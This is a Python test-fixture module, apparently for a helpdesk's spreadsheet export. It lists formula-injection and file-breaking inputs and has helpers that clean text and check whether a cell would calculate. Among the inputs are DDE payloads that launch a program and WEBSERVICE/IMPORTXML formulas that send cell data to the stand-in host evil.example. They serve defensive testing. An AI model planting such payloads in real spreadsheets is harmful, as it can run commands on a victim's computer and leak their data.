"""Texts that a spreadsheet would calculate, or that break a file; what each means to a reader; and what makes a cell live (W3)."""

import unicodedata

from helpdesk.admin.resources import STARTS_A_FORMULA

HOSTILE = {
    "sum": "=1+1",
    "doubled": "==1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab before": "\t=1+1",
    "line end before": "\r=1+1",
    "new line before": "\n=1+1",
    "zero before": "\x00=1+1",
    "blank before": " =1+1",
    "no-break blank before": "\xa0=1+1",
    "zero width before": "\u200b=1+1",
    "byte order mark before": "\ufeff=1+1",
    "right to left before": "\u202e=1+1",
    "full width equals": "\uff1d1+1",
    "full width plus": "\uff0b1",
    "full width minus": "\uff0d1",
    "full width at": "\uff20SUM(1)",
    "small equals": "\ufe661+1",
    "superscript equals": "\u207c1",
    "pipe": "|calc",
    "percent": "%0",
    "dde": "=cmd|' /C calc'!A0",
    "dde with sign": "+cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example","click")',
    "web service": '=WEBSERVICE("http://evil.example/"&A1)',
    "import": '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "quoted": "'=1+1",
    "two quotes": "''=1+1",
    "double quoted": '"=1+1"',
    "closing and formula": '",=1+1,"',
    "new row": '"\r\n=1+1',
    "separator": ";=1+1",
    "array": "{=1+1}",
    "markup": "</t></is></c><c><f>1+1</f></c>",
    "rich text": '<r><t>x</t></r></is></c><c r="B2"><f>1+1</f></c><c t="inlineStr"><is><r><t>y</t></r>',
    "entity": "&equals;1+1 &#61;1",
    "section end": "]]>=1+1",
    "escaped letter": "_x003D_1+1",
    "escaped in the middle": "a _x000D_ b",
    "half a pair": "\ud800=1+1",
    "no character": "\ufffe\uffff=1+1",
    "controls": "\x01\x02\x1b=1+1\x7f",
    "very long": "=" + "A" * 40_000,
    "long and harmless": "word " * 8_000,
    "number alike": "1e308",
    "date alike": "2026-01-01",
    "truth alike": "TRUE",
    "error alike": "#REF!",
}


def meant(given: str) -> str:
    """The text a reader finds again: line ends in one form, tabs as blanks, nothing a sheet cannot hold, no longer than a cell."""
    breaks = given.replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")
    kept = (one for one in breaks if one == "\n" or unicodedata.category(one) not in {"Cc", "Cs"})
    return "".join(one for one in kept if one not in "\ufffe\uffff")


def is_live(cell: str) -> bool:
    """Whether a spreadsheet may calculate it, by the first character that can be seen."""
    seen = (one for one in cell if unicodedata.category(one)[0] not in "ZC")
    first = next(seen, "")
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in STARTS_A_FORMULA
